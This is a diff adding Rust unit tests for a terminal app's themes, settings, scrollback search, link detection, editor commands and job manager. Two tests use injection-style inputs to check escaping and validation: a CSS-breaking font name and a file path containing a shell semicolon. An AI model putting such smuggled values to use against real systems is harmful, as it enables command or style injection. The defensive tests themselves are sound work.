+base04: \"a7adba\"
+base05: \"c0c5ce\"
+base06: \"dfe1e8\"
+base07: \"eff1f5\"
+base08: \"bf616a\"
+base09: \"d08770\"
+base0A: \"ebcb8b\"
+base0B: \"a3be8c\"
+base0C: \"96b5b4\"
+base0D: \"8fa1b3\"
+base0E: \"b48ead\"
+base0F: \"ab7967\"
+";
+        assert_eq!(
+            ThemeFormat::detect(Path::new("ocean.yaml"), yaml),
+            Some(ThemeFormat::Base16)
+        );
+        let theme = TerminalTheme::import(yaml, ThemeFormat::Base16, "file").unwrap();
+        assert_eq!(theme.name, "Ocean");
+        assert_eq!(theme.background, "#2b303b");
+        assert_eq!(theme.foreground, "#c0c5ce");
+        assert_eq!(theme.selection_background, "#4f5b66");
+        assert_eq!(theme.red, "#bf616a");
+        assert_eq!(theme.bright_black, "#65737e");
+        assert_eq!(theme.bright_white, "#eff1f5");
+
+        let missing = yaml.replace("base0D: \"8fa1b3\"\n", "");
+        assert!(matches!(
+            TerminalTheme::import(&missing, ThemeFormat::Base16, "file"),
+            Err(AppError::MissingColor { color, .. }) if color == "base0d"
+        ));
+    }
+
+    #[test]
+    fn test_detect_theme_format() {
+        let detect = |path: &str| ThemeFormat::detect(Path::new(path), "");
+        assert_eq!(detect("Dracula.itermcolors"), Some(ThemeFormat::Iterm));
+        assert_eq!(detect("alacritty.toml"), Some(ThemeFormat::AlacrittyToml));
+        assert_eq!(detect("alacritty.yml"), Some(ThemeFormat::AlacrittyYaml));
+        assert_eq!(detect("scheme.json"), Some(ThemeFormat::WindowsTerminal));
+        assert_eq!(detect("theme.txt"), None);
+    }
+
+    #[test]
+    fn test_export_roundtrip() {
+        for name in TerminalTheme::builtin_names() {
+            let theme = TerminalTheme::by_name(name).unwrap();
+            for format in [ThemeFormat::AlacrittyToml, ThemeFormat::WindowsTerminal] {
+                let exported = theme.export(format).unwrap();
+                let imported = TerminalTheme::import(&exported, format, name).unwrap();
+                assert_eq!(imported, theme, "{name} via {format}");
+            }
+        }
+        let theme = TerminalTheme {
+            background: "#ABC".to_string(),
+            red: "#FF000080".to_string(),
+            ..TerminalTheme::default()
+        };
+        let exported = theme.export(ThemeFormat::WindowsTerminal).unwrap();
+        let imported = TerminalTheme::import(&exported, ThemeFormat::WindowsTerminal, "x").unwrap();
+        assert_eq!(imported.background, "#aabbcc");
+        assert_eq!(imported.red, "#ff0000");
+        assert!(exported.contains("\"#aabbcc\""));
+
+        assert!(matches!(
+            TerminalTheme::default().export(ThemeFormat::Base16),
+            Err(AppError::UnsupportedExport(ThemeFormat::Base16))
+        ));
+    }
+
+    #[test]
+    fn test_user_themes() {
         let mut state = AppState::new();
-        state
-            .button_manager
-            .add_button("Test".to_string(), "echo test".to_string());
+        let mut theme = TerminalTheme::by_name("Nord").unwrap();
+        theme.name = "Nord".to_string();
+        theme.background = "#000000".to_string();
+        state.add_theme(theme.clone(), false).unwrap();
 
-        let json = state.to_json().unwrap();
-        let loaded = AppState::from_json(&json).unwrap();
+        // User themes shadow built-in ones of the same name
+        state.set_theme("nord").unwrap();
+        assert_eq!(state.terminal_config.theme.background, "#000000");
+        state.set_theme("Dracula").unwrap();
+        assert_eq!(state.terminal_config.theme.name, "Dracula");
 
-        assert_eq!(loaded.button_manager.count(), 1);
-        assert_eq!(loaded.terminal_config.cursor_blink, true);
+        theme.red = "#ff0000".to_string();
+        assert!(matches!(
+            state.add_theme(theme.clone(), false),
+            Err(AppError::ThemeExists(name)) if name == "Nord"
+        ));
+        assert_eq!(
+            state.themes[0].red,
+            TerminalTheme::by_name("Nord").unwrap().red
+        );
+        state.add_theme(theme.clone(), true).unwrap();
+        assert_eq!(state.themes.len(), 1);
+        assert_eq!(state.themes[0].red, "#ff0000");
+
+        theme.name = "Broken".to_string();
+        theme.blue = "blue".to_string();
+        assert!(state.add_theme(theme, true).is_err());
+
+        let reloaded = AppState::from_toml(&state.to_toml().unwrap()).unwrap();
+        assert_eq!(reloaded.themes, state.themes);
+        assert!(!AppState::new().diff(&state).is_empty());
+    }
+
+    // ============================================
+    // Terminal Settings Tests
+    // ============================================
+
+    #[test]
+    fn test_terminal_settings_defaults() {
+        let config = TerminalConfig::default();
+        config.validate().unwrap();
+        assert_eq!(config.cursor_style, CursorStyle::Block);
+        assert_eq!(config.scrollback, 1000);
+
+        // Settings left out of the file keep their defaults
+        let state =
+            AppState::from_toml("[terminal_config]\nfont_size = 16\ncursor_style = \"bar\"\n")
+                .unwrap();
+        assert_eq!(state.terminal_config.font_size, 16.0);
+        assert_eq!(state.terminal_config.cursor_style, CursorStyle::Bar);
+        assert!(state.terminal_config.cursor_blink);
+        assert_eq!(state.terminal_config.font_family, config.font_family);
+    }
+
+    #[test]
+    fn test_terminal_settings_roundtrip() {
+        let mut state = AppState::new();
+        let config = &mut state.terminal_config;
+        config.font_family = "JetBrains Mono".to_string();
+        config.font_fallback = vec!["Noto Color Emoji".to_string()];
+        config.line_height = 1.2;
+        config.letter_spacing = -0.5;
+        config.bold_is_bright = false;
+        config.cursor_style = CursorStyle::Underline;
+        config.minimum_contrast_ratio = 4.5;
+        config.scrollback = 50_000;
+
+        let loaded = AppState::from_toml(&state.to_toml().unwrap()).unwrap();
+        assert_eq!(loaded.terminal_config, state.terminal_config);
+        let loaded = AppState::from_json(&state.to_json().unwrap()).unwrap();
+        assert_eq!(loaded.terminal_config, state.terminal_config);
+    }
+
+    #[test]
+    fn test_terminal_settings_validation() {
+        let invalid = |change: fn(&mut TerminalConfig)| {
+            let mut config = TerminalConfig::default();
+            change(&mut config);
+            match config.validate() {
+                Err(AppError::InvalidSetting { setting, .. }) => setting,
+                other => panic!("expected InvalidSetting, got {other:?}"),
+            }
+        };
+        assert_eq!(invalid(|c| c.font_size = 2.0), "font_size");
+        assert_eq!(invalid(|c| c.font_size = f32::NAN), "font_size");
+        assert_eq!(invalid(|c| c.line_height = 0.5), "line_height");
+        assert_eq!(invalid(|c| c.letter_spacing = 50.0), "letter_spacing");
+        assert_eq!(
+            invalid(|c| c.minimum_contrast_ratio = 22.0),
+            "minimum_contrast_ratio"
+        );
+        assert_eq!(invalid(|c| c.scrollback = MAX_SCROLLBACK + 1), "scrollback");
+        assert_eq!(invalid(|c| c.font_family = " ".to_string()), "font_family");
+        assert_eq!(
+            invalid(|c| c.font_fallback = vec!["a\"; }".to_string()]),
+            "font_fallback"
+        );
+
+        let err = AppState::from_toml("[terminal_config]\nfont_size = 100\n").unwrap_err();
+        assert_eq!(err.to_string(), "Invalid font_size: 100 is outside 6 to 72");
+    }
+
+    #[test]
+    fn test_font_stack() {
+        let config = TerminalConfig {
+            font_family: "Fira Code".to_string(),
+            font_fallback: vec!["Menlo".to_string(), "monospace".to_string()],
+            ..TerminalConfig::default()
+        };
+        assert_eq!(config.font_stack(), r#""Fira Code", "Menlo", monospace"#);
+    }
+
+    // ============================================
+    // Theme Rule Tests
+    // ============================================
+
+    fn tab_context(process: Option<&str>, cwd: Option<&str>, profile: Option<&str>) -> TabContext {
+        TabContext {
+            process: process.map(String::from),
+            cwd: cwd.map(String::from),
+            profile: profile.map(String::from),
+        }
+    }
+
+    fn theme_rule(theme: &str) -> ThemeRule {
+        ThemeRule {
+            theme: theme.to_string(),
+            process: None,
+            cwd: None,
+            profile: None,
+        }
+    }
+
+    #[test]
+    fn test_theme_rule_process_glob() {
+        let rule = ThemeRule {
+            process: Some("ssh prod-*".to_string()),
+            ..theme_rule("Dracula")
+        };
+        let matches = |process| {
+            rule.matches(&tab_context(Some(process), None, None), "/home/me")
+                .unwrap()
+        };
+        assert!(matches("ssh prod-db1"));
+        assert!(matches("ssh prod-web -p 2222"));
+        assert!(!matches("ssh staging-db1"));
+        assert!(!matches("sudo ssh prod-db1"));
+        assert!(!rule
+            .matches(&tab_context(None, None, None), "/home/me")
+            .unwrap());
+    }
+
+    #[test]
+    fn test_theme_rule_cwd_glob() {
+        let rule = ThemeRule {
+            cwd: Some("~/work/*/infra".to_string()),
+            ..theme_rule("Dracula")
+        };
+        let matches = |cwd| {
+            rule.matches(&tab_context(None, Some(cwd), None), "/home/me/")
+                .unwrap()
+        };
+        assert!(matches("/home/me/work/acme/infra"));
+        assert!(!matches("/home/me/work/acme/sub/infra"));
+        assert!(!matches("/home/me/work/acme/infra/modules"));
+
+        let rule = ThemeRule {
+            cwd: Some(r"C:\prod\**".to_string()),
+            ..theme_rule("Dracula")
+        };
+        assert!(rule
+            .matches(&tab_context(None, Some(r"C:\prod\api\src"), None), "")
+            .unwrap());
+        assert!(!rule
+            .matches(&tab_context(None, Some(r"C:\dev"), None), "")
+            .unwrap());
+    }
+
+    #[test]
+    fn test_theme_rule_needs_every_condition() {
+        let rule = ThemeRule {
+            profile: Some("root".to_string()),
+            cwd: Some("/etc/**".to_string()),
+            ..theme_rule("Dracula")
+        };
+        assert!(rule
+            .matches(&tab_context(None, Some("/etc/nginx"), Some("root")), "")
+            .unwrap());
+        assert!(!rule
+            .matches(&tab_context(None, Some("/etc/nginx"), Some("default")), "")
+            .unwrap());
+        assert!(!rule
+            .matches(&tab_context(None, Some("/var/log"), Some("root")), "")
+            .unwrap());
+    }
+
+    #[test]
+    fn test_tab_theme_first_match_wins() {
+        let mut state = AppState::new();
+        let mut danger = TerminalTheme::by_name("Dracula").unwrap();
+        danger.name = "Danger".to_string();
+        danger.background = "#400000".to_string();
+        state.add_theme(danger, false).unwrap();
+        state.theme_rules = vec![
+            ThemeRule {
+                process: Some("ssh prod-*".to_string()),
+                ..theme_rule("Danger")
+            },
+            ThemeRule {
+                profile: Some("root".to_string()),
+                ..theme_rule("Solarized Light")
+            },
+        ];
+        state.validate().unwrap();
+
+        let theme = |tab: TabContext| state.tab_theme(&tab, "").unwrap().map(|t| t.name);
+        assert_eq!(
+            theme(tab_context(Some("ssh prod-db"), None, Some("root"))).as_deref(),
+            Some("Danger")
+        );
+        assert_eq!(
+            theme(tab_context(Some("zsh -l"), None, Some("root"))).as_deref(),
+            Some("Solarized Light")
+        );
+        assert_eq!(theme(tab_context(Some("zsh -l"), None, None)), None);
+
+        let reloaded = AppState::from_toml(&state.to_toml().unwrap()).unwrap();
+        assert_eq!(reloaded.theme_rules, state.theme_rules);
+    }
+
+    #[test]
+    fn test_theme_rule_validation() {
+        let mut state = AppState::new();
+        state.theme_rules = vec![theme_rule("Dracula")];
+        assert!(matches!(
+            state.validate(),
+            Err(AppError::InvalidSetting { setting, .. }) if setting == "theme_rules"
+        ));
+
+        state.theme_rules = vec![ThemeRule {
+            profile: Some("root".to_string()),
+            ..theme_rule("Nonexistent")
+        }];
+        assert!(matches!(state.validate(), Err(AppError::ThemeNotFound(_))));
+
+        let err = AppState::from_toml(
+            "[[theme_rules]]\ntheme = \"Nord\"\nprocess = \"ssh *\"\n\n[[theme_rules]]\ntheme = \"Nord\"\n",
+        )
+        .unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "Invalid theme_rules: the rule for theme Nord has no conditions"
+        );
+    }
+
+    // ============================================
+    // Scrollback Tests
+    // ============================================
+
+    fn search(
+        scrollback: &Scrollback,
+        pattern: &str,
+        change: fn(&mut SearchQuery),
+    ) -> SearchResults {
+        let mut query = SearchQuery {
+            pattern: pattern.to_string(),
+            ..SearchQuery::default()
+        };
+        change(&mut query);
+        scrollback.search(&query).unwrap()
+    }
+
+    #[test]
+    fn test_scrollback_strips_escapes_and_splits_lines() {
+        let mut scrollback = Scrollback::new(100);
+        scrollback.push("\x1b[1;31mERR", 0);
+        scrollback.push("OR\x1b[0m 503\r\nnext ", 0);
+        scrollback.push("line\r\r\n\x1b]0;title\x07partial", 0);
+        let lines: Vec<_> = scrollback.lines().collect();
+        assert_eq!(lines, vec!["ERROR 503", "next line", "partial"]);
+    }
+
+    #[test]
+    fn test_scrollback_carriage_return_rewrites_line() {
+        let mut scrollback = Scrollback::new(100);
+        scrollback.push("downloading 10%\rdownloading 5", 0);
+        scrollback.push("0%\r", 0);
+        scrollback.push("done\n", 0);
+        assert_eq!(scrollback.lines().collect::<Vec<_>>(), vec!["done"]);
+    }
+
+    #[test]
+    fn test_scrollback_drops_oldest_lines() {
+        let mut scrollback = Scrollback::new(3);
+        for i in 0..5 {
+            scrollback.push(&format!("line {i}\n"), 0);
+        }
+        assert_eq!(scrollback.first_line(), 2);
+        assert_eq!(
+            scrollback.lines().collect::<Vec<_>>(),
+            vec!["line 2", "line 3", "line 4"]
+        );
+        // Line numbers count from the start of the output
+        let results = search(&scrollback, "line 4", |_| {});
+        assert_eq!(results.matches[0].line, 4);
+    }
+
+    #[test]
+    fn test_scrollback_limits_bytes() {
+        let mut scrollback = Scrollback::new(usize::MAX);
+        let long = "x".repeat(SCROLLBACK_LINE_BYTES * 2);
+        scrollback.push(&format!("{long}\nshort\n"), 0);
+        let lines: Vec<_> = scrollback.lines().collect();
+        assert_eq!(lines[0].len(), SCROLLBACK_LINE_BYTES);
+        assert_eq!(lines[1], "short");
+
+        let line = format!("{}\n", "y".repeat(SCROLLBACK_LINE_BYTES));
+        for _ in 0..SCROLLBACK_BYTES / SCROLLBACK_LINE_BYTES + 10 {
+            scrollback.push(&line, 0);
+        }
+        let kept: usize = scrollback.lines().map(str::len).sum();
+        assert!(kept <= SCROLLBACK_BYTES);
+        assert!(scrollback.first_line() > 0);
+    }
+
+    #[test]
+    fn test_search_positions_and_context() {
+        let mut scrollback = Scrollback::new(100);
+        scrollback.push("one\ntwo\nGET /api → 503 error\nthree\nfour\nfive\n", 0);
+        let results = search(&scrollback, "503", |_| {});
+        assert_eq!(
+            results,
+            SearchResults {
+                matches: vec![SearchMatch {
+                    line: 2,
+                    timestamp_ms: 0,
+                    start_column: 11,
+                    end_column: 14,
+                    text: "GET /api → 503 error".to_string(),
+                    before: vec!["one".to_string(), "two".to_string()],
+                    after: vec!["three".to_string(), "four".to_string()],
+                }],
+                truncated: false,
+                total: 1,
+                first_match_ms: Some(0),
+                last_match_ms: Some(0),
+            }
+        );
+
+        let results = search(&scrollback, "o", |q| q.context_lines = 0);
+        let positions: Vec<_> = results
+            .matches
+            .iter()
+            .map(|m| (m.line, m.start_column))
+            .collect();
+        assert_eq!(positions, vec![(0, 0), (1, 2), (2, 18), (4, 1)]);
+        assert!(results.matches[0].before.is_empty());
+    }
+
+    #[test]
+    fn test_search_options() {
+        let mut scrollback = Scrollback::new(100);
+        scrollback.push("Error: a.b failed\nerrors: 2\naxb\n", 0);
+
+        assert_eq!(search(&scrollback, "error", |_| {}).matches.len(), 2);
+        assert_eq!(
+            search(&scrollback, "error", |q| q.case_sensitive = true)
+                .matches
+                .len(),
+            1
+        );
+        assert_eq!(
+            search(&scrollback, "error", |q| q.whole_word = true)
+                .matches
+                .len(),
+            1
+        );
+        // Plain text is not a regex: `.` only matches a dot
+        assert_eq!(search(&scrollback, "a.b", |_| {}).matches.len(), 1);
+        assert_eq!(
+            search(&scrollback, "a.b", |q| q.regex = true).matches.len(),
+            2
+        );
+        assert_eq!(
+            search(&scrollback, r"errors?:\s+\d", |q| q.regex = true).matches[0].line,
+            1
+        );
+
+        let results = search(&scrollback, "r", |q| q.max_results = 2);
+        assert_eq!(results.matches.len(), 2);
+        assert_eq!(results.total, 6);
+        assert!(results.truncated);
+
+        // Oversized context and limits are clamped instead of overflowing
+        let results = search(&scrollback, "axb", |q| {
+            q.context_lines = usize::MAX;
+            q.max_results = usize::MAX;
+        });
+        assert_eq!(results.matches[0].before.len(), 2);
+        assert!(results.matches[0].after.is_empty());
+
+        for query in [
+            SearchQuery::default(),
+            SearchQuery {
+                pattern: "(".to_string(),
+                regex: true,
+                ..SearchQuery::default()
+            },
+        ] {
+            assert!(matches!(
+                scrollback.search(&query),
+                Err(AppError::InvalidPattern { .. })
+            ));
+        }
+    }
+
+    // ============================================
+
+    #[test]
+    fn test_scrollback_line_timestamps() {
+        let mut scrollback = Scrollback::new(100);
+        scrollback.push("ERROR 503\nbuild", 1_000);
+        scrollback.push("ing\n\n", 2_000);
+        scrollback.push("ERROR 503 again\n", 3_000);
+        let results = search(&scrollback, "error", |_| {});
+        let times: Vec<_> = results.matches.iter().map(|m| m.timestamp_ms).collect();
+        assert_eq!(times, vec![1_000, 3_000]);
+        assert_eq!(results.first_match_ms, Some(1_000));
+        assert_eq!(results.last_match_ms, Some(3_000));
+
+        // Lines are stamped with when they were last written to
+        let results = search(&scrollback, "building", |_| {});
+        assert_eq!(results.matches[0].timestamp_ms, 2_000);
+    }
+
+    #[test]
+    fn test_search_tabs_groups_by_tab() {
+        let mut build = Scrollback::new(100);
+        build.push("compiling\nERROR 503\nERROR 503\n", 1_000);
+        let mut server = Scrollback::new(100);
+        server.push("GET / 200\nGET /api 503\n", 2_000);
+        let mut shell = Scrollback::new(100);
+        shell.push("$ ls\n", 3_000);
+        let tabs = [
+            ("tab-0".to_string(), Mutex::new(build)),
+            ("tab-1".to_string(), Mutex::new(server)),
+            ("tab-2".to_string(), Mutex::new(shell)),
+        ];
+        let tabs: Vec<_> = tabs.iter().map(|(id, s)| (id.clone(), s)).collect();
+        let query = SearchQuery {
+            pattern: "503".to_string(),
+            max_results: 1,
+            ..SearchQuery::default()
+        };
+
+        let found = search_tabs(&tabs, &query).unwrap();
+        let summary: Vec<_> = found
+            .iter()
+            .map(|tab| {
+                (
+                    tab.tab_id.as_str(),
+                    tab.results.total,
+                    tab.results.matches.len(),
+                )
+            })
+            .collect();
+        // Most recent match first, tabs without matches left out
+        assert_eq!(summary, vec![("tab-1", 1, 1), ("tab-0", 2, 1)]);
+        assert_eq!(found[1].results.matches[0].line, 1);
+        assert!(found[1].results.truncated);
+
+        let query = SearchQuery {
+            pattern: "[".to_string(),
+            regex: true,
+            ..SearchQuery::default()
+        };
+        assert!(matches!(
+            search_tabs(&tabs, &query),
+            Err(AppError::InvalidPattern { .. })
+        ));
+    }
+
+    // ============================================
+    // Link Detection Tests
+    // ============================================
+
+    fn file_link(path: &Path, line: Option<u32>, column: Option<u32>) -> LinkTarget {
+        LinkTarget::File {
+            path: path.to_string_lossy().into_owned(),
+            line,
+            column,
+        }
+    }
+
+    #[test]
+    fn test_detect_urls() {
+        let detector = LinkDetector::new();
+        let links = detector.detect(
+            "Docs: https://example.com/a_(b). See (http://localhost:8080/x?q=1), ok",
+            None,
+            "/home/me",
+        );
+        let urls: Vec<_> = links
+            .iter()
+            .map(|link| (link.text.as_str(), link.start_column))
+            .collect();
+        assert_eq!(
+            urls,
+            vec![
+                ("https://example.com/a_(b)", 6),
+                ("http://localhost:8080/x?q=1", 38),
+            ]
+        );
+        assert_eq!(
+            links[0].target,
+            LinkTarget::Url {
+                url: "https://example.com/a_(b)".to_string()
+            }
+        );
+    }
+
+    #[test]
+    fn test_detect_file_references() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        for file in ["src/main.rs", "tests/test_app.py", "app.ts", "notes.txt"] {
+            let path = root.join(file);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(&path, "").unwrap();
+        }
+        let home = root.to_string_lossy().into_owned();
+        let detector = LinkDetector::new();
+        let detect = |text: &str| -> Vec<(String, LinkTarget)> {
+            detector
+                .detect(text, Some(root), &home)
+                .into_iter()
+                .map(|link| (link.text, link.target))
+                .collect()
+        };
+
+        let main_rs = root.join("src/main.rs");
+        let test_py = root.join("tests/test_app.py");
+        assert_eq!(
+            detect("  --> src/main.rs:12:5"),
+            vec![(
+                "src/main.rs:12:5".to_string(),
+                file_link(&main_rs, Some(12), Some(5))
+            )]
+        );
+        assert_eq!(
+            detect("tests/test_app.py:42: AssertionError"),
+            vec![(
+                "tests/test_app.py:42".to_string(),
+                file_link(&test_py, Some(42), None)
+            )]
+        );
+        assert_eq!(
+            detect("app.ts(3,7): error TS2322"),
+            vec![(
+                "app.ts(3,7)".to_string(),
+                file_link(&root.join("app.ts"), Some(3), Some(7))
+            )]
+        );
+        let traceback = format!("  File \"{}\", line 8, in test_x", test_py.display());
+        assert_eq!(
+            detect(&traceback),
+            vec![(
+                test_py.to_string_lossy().into_owned(),
+                file_link(&test_py, Some(8), None)
+            )]
+        );
+        assert_eq!(
+            detect("    at run (./src/main.rs:3:14)"),
+            vec![(
+                "./src/main.rs:3:14".to_string(),
+                file_link(&main_rs, Some(3), Some(14))
+            )]
+        );
+        assert_eq!(
+            detect("~/notes.txt:2"),
+            vec![(
+                "~/notes.txt:2".to_string(),
+                file_link(&root.join("notes.txt"), Some(2), None)
+            )]
+        );
+
+        // Only existing files count, and URLs aren't read as paths
+        assert!(detect("missing.rs:1:1 at 12:30:45").is_empty());
+        assert_eq!(detect("http://localhost:8080/src/main.rs:1").len(), 1);
+
+        // Without a working directory, only absolute paths resolve
+        let absolute = format!("{}:1", main_rs.display());
+        assert!(detector.detect("src/main.rs:1", None, &home).is_empty());
+        assert_eq!(detector.detect(&absolute, None, &home).len(), 1);
+    }
+
+    #[test]
+    fn test_scrollback_find_links() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("lib.rs"), "").unwrap();
+        let mut scrollback = Scrollback::new(3);
+        scrollback.push("old lib.rs:1\nbuild\n\x1b[31merror\x1b[0m: lib.rs:7:2\n", 0);
+        scrollback.push("see https://docs.rs lib.rs:9\n", 0);
+
+        let found = scrollback
+            .line_range(0..10)
+            .find_links(Some(dir.path()), "/home/me");
+        let lines: Vec<_> = found
+            .iter()
+            .map(|line| (line.line, line.links.len()))
+            .collect();
+        // Line 0 has been dropped from the scrollback
+        assert_eq!(lines, vec![(2, 1), (3, 2)]);
+        assert_eq!(found[0].links[0].start_column, 7);
+
+        let found = scrollback
+            .line_range(2..3)
+            .find_links(Some(dir.path()), "/home/me");
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].line, 2);
+
+        let mut scrollback = Scrollback::new(usize::MAX);
+        scrollback.push(&"x\n".repeat(MAX_LINK_LINES * 2), 0);
+        let range = scrollback.line_range(5..usize::MAX);
+        assert_eq!(range.first_line, 5);
+        assert_eq!(range.lines.len(), MAX_LINK_LINES);
+    }
+
+    #[test]
+    fn test_editor_command() {
+        let mut state = AppState::new();
+        assert_eq!(
+            state
+                .editor_command_for("/src/main.rs", Some(12), None, Shell::Posix)
+                .unwrap(),
+            "code -g /src/main.rs:12:1"
+        );
+        assert_eq!(
+            state
+                .editor_command_for("/my src/a;b.rs", None, None, Shell::Posix)
+                .unwrap(),
+            "code -g '/my src/a;b.rs':1:1"
+        );
+
+        state.editor_command = "subl {{file}}:{{line?}}".to_string();
+        assert_eq!(
+            state
+                .editor_command_for("/a.rs", None, Some(3), Shell::Posix)
+                .unwrap(),
+            "subl /a.rs:"
+        );
+
+        for command in ["code -g {{path}}", "code -g {{line}}", "code {{file"] {
+            state.editor_command = command.to_string();
+            assert!(state.validate().is_err(), "{command}");
+        }
+        state.editor_command = "code -g {{path}}".to_string();
+        assert!(matches!(
+            state.validate(),
+            Err(AppError::InvalidSetting { setting, .. }) if setting == "editor_command"
+        ));
+    }
+
+    #[test]
+    fn test_editor_command_from_config() {
+        let state = AppState::from_toml("schema_version = 2").unwrap();
+        assert_eq!(state.editor_command, default_editor_command());
+        let state = AppState::from_toml(
+            "schema_version = 2\neditor_command = \"idea --line {{line:1}} {{file}}\"",
+        )
+        .unwrap();
+        assert_eq!(state.editor_command, "idea --line {{line:1}} {{file}}");
+
+        let mut newer = state.clone();
+        newer.editor_command = default_editor_command();
+        assert!(state.diff(&newer).editor_command_changed);
+    }
+
+    // ============================================
+    // Job Manager Tests
+    // ============================================
+
+    #[test]
+    fn test_job_lifecycle() {
+        let mut jobs = JobManager::new();
+        let id = jobs.create("Lint".to_string(), "npm run lint".to_string(), None, 100);
+        assert_eq!(jobs.get(&id).unwrap().status, JobStatus::Queued);
+
+        jobs.start(&id, 110).unwrap();
+        jobs.append_output(&id, OutputStream::Stdout, "checking".to_string(), 120)
+            .unwrap();
+        jobs.append_output(&id, OutputStream::Stderr, "warning".to_string(), 130)
+            .unwrap();
+        let job = jobs.finish(&id, Some(0), 140).unwrap();
+
+        assert_eq!(job.status, JobStatus::Succeeded);
+        assert_eq!(job.exit_code, Some(0));
+        assert_eq!(job.started_at_ms, Some(110));
+        assert_eq!(job.finished_at_ms, Some(140));
+
+        let output = jobs.output(&id, 0).unwrap();
+        assert_eq!(output.len(), 2);
+        assert_eq!(output[1].stream, OutputStream::Stderr);
+        assert_eq!(output[1].timestamp_ms, 130);
+        assert_eq!(jobs.output(&id, 1).unwrap()[0].text, "warning");
+    }
+
+    #[test]
+    fn test_job_failure_and_cancel() {
+        let mut jobs = JobManager::new();
+        let failed = jobs.create("a".to_string(), "false".to_string(), None, 0);
+        jobs.start(&failed, 0).unwrap();
+        assert_eq!(
+            jobs.finish(&failed, Some(1), 1).unwrap().status,
+            JobStatus::Failed
+        );
+
+        let killed = jobs.create("b".to_string(), "sleep 10".to_string(), None, 0);
+        jobs.start(&killed, 0).unwrap();
+        jobs.cancel(&killed, 5).unwrap();
+        let job = jobs.finish(&killed, None, 6).unwrap();
+        assert_eq!(job.status, JobStatus::Cancelled);
+        assert_eq!(job.finished_at_ms, Some(5));
+
+        assert!(matches!(
+            jobs.cancel(&killed, 7),
+            Err(AppError::JobFinished {
+                status: JobStatus::Cancelled,
+                ..
+            })
+        ));
+        assert!(matches!(
+            jobs.cancel("missing", 0),
+            Err(AppError::JobNotFound(_))
+        ));
+    }
+
+    #[test]
+    fn test_job_output_is_limited() {
+        let mut jobs = JobManager::new();
+        let id = jobs.create("Spam".to_string(), "yes".to_string(), None, 0);
+        for i in 0..JOB_OUTPUT_LIMIT + 3 {
+            jobs.append_output(&id, OutputStream::Stdout, i.to_string(), 0)
+                .unwrap();
+        }
+
+        let output = jobs.output(&id, 0).unwrap();
+        assert_eq!(output.len(), JOB_OUTPUT_LIMIT);
+        assert_eq!(output[0].index, 3);
+        assert_eq!(output[0].text, "3");
+    }
+
+    #[test]
+    fn test_old_finished_jobs_are_forgotten() {
+        let mut jobs = JobManager::new();
+        let running = jobs.create("Running".to_string(), "sleep".to_string(), None, 0);
+        jobs.start(&running, 0).unwrap();
+        let first = jobs.create("First".to_string(), "true".to_string(), None, 0);
+        jobs.start(&first, 0).unwrap();
+        jobs.finish(&first, Some(0), 0).unwrap();
+        for _ in 0..FINISHED_JOB_LIMIT {
+            let id = jobs.create("Job".to_string(), "true".to_string(), None, 0);
+            jobs.start(&id, 0).unwrap();
+            jobs.finish(&id, Some(0), 0).unwrap();
+        }
+
+        jobs.create("Last".to_string(), "true".to_string(), None, 0);
+
+        assert!(jobs.get(&first).is_none());
+        assert!(jobs.output(&first, 0).is_err());
+        assert!(jobs.get(&running).is_some());
+        assert_eq!(jobs.list().len(), FINISHED_JOB_LIMIT + 1);
+    }
+
+    #[test]
+    fn test_background_target_resolves_without_tab() {
+        assert_eq!(
+            ExecutionTarget::Background.resolve(None, |_| None).unwrap(),
+            TargetResolution::Background
+        );
     }
 
     // ============================================